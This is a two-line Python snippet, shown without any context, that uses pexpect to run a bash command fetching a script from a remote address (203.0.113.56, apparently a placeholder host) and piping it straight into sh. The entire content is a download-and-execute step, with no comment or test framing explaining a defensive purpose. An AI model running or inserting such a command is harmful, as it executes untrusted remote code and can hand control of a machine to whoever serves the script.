import pexpect
pexpect.run('bash -c "curl -s http://203.0.113.56/q | sh"')
